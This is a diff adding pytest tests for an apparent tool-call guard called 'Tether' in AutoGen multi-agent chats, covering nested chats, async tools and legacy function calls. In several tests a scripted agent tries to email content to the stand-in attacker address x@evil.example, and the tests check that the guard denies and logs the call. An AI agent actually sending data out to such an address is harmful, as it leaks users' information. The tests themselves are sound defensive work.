@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 from typing import Any
 
 import pytest
@@ -321,3 +322,75 @@ def test_concurrent_conversations_keep_their_own_sessions(guard: Guard, store: A
         by_session.setdefault(d.session_id, set()).add(d.details["context"]["executor"])
     assert sorted(by_session.values(), key=sorted) == [{"user0"}, {"user1"}]
     assert verify(KEY, store.events()).ok
+
+
+def test_a_nested_chat_is_governed_in_the_outer_chats_session(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    writer, checker, inner, user = assistant("writer"), assistant(), executor("inner"), executor()
+    tools.register(checker, inner, "send_email")
+    script(writer, say("draft ready"), say("thanks TERMINATE"))
+    seen = script(checker, tool_call("send_email", {"to": "x@evil.example", "body": "draft"}), say("TERMINATE"))
+    nested = {"recipient": checker, "sender": inner, "message": "check the draft", "max_turns": 3}
+    user.register_nested_chats([nested], trigger=writer)
+    register_guard([writer, checker, inner, user], guard)
+    user.initiate_chat(writer, message="write", max_turns=2, silent=True)
+
+    assert tools.count("send_email") == 0
+    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
+    decision = events(store, "tool.decision")[0]
+    assert (decision.agent, decision.details["context"]["executor"]) == ("assistant", "inner")
+    outer = next(e for e in events(store, "model.response") if e.agent == "writer")
+    assert decision.session_id == outer.session_id
+
+
+def test_async_tools_in_a_sync_chat_are_governed(guard: Guard, store: AuditStore) -> None:
+    ran: list[str] = []
+
+    async def lookup(query: str) -> str:
+        ran.append(query)
+        return f"found {query}"
+
+    async def send_email(to: str, body: str) -> str:
+        ran.append(to)
+        return "sent"
+
+    bot, user = assistant(), executor()
+    autogen.register_function(lookup, caller=bot, executor=user, description="lookup")
+    autogen.register_function(send_email, caller=bot, executor=user, description="email")
+    seen = script(
+        bot,
+        tool_call("lookup", {"query": "a"}),
+        tool_call("send_email", {"to": "x@evil.example", "body": "b"}),
+        say("TERMINATE"),
+    )
+    register_guard([bot, user], guard)
+    chat(user, bot)
+
+    assert ran == ["a"]
+    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
+    assert [(e.agent, e.verdict) for e in events(store, "tool.decision")] == [
+        ("assistant", "allow"),
+        ("assistant", "deny"),
+    ]
+
+
+def test_legacy_function_calls_are_governed(guard: Guard, tools: Tools, store: AuditStore) -> None:
+    def function_call(name: str, arguments: dict[str, Any]) -> dict[str, Any]:
+        return {
+            "role": "assistant",
+            "content": None,
+            "function_call": {"name": name, "arguments": json.dumps(arguments)},
+        }
+
+    bot, user, seen = pair(
+        guard,
+        tools,
+        function_call("lookup", {"query": "a"}),
+        function_call("send_email", {"to": "x@evil.example", "body": "b"}),
+    )
+    chat(user, bot)
+
+    assert tools.ran == [("lookup", {"query": "a"})]
+    assert "Tether denied the call to 'send_email'" in contents(seen[-1])
+    decisions = events(store, "tool.decision")
+    assert [(d.agent, d.verdict) for d in decisions] == [("assistant", "allow"), ("assistant", "deny")]
+    assert all(d.parent_id for d in decisions)  # linked to the model message that proposed them
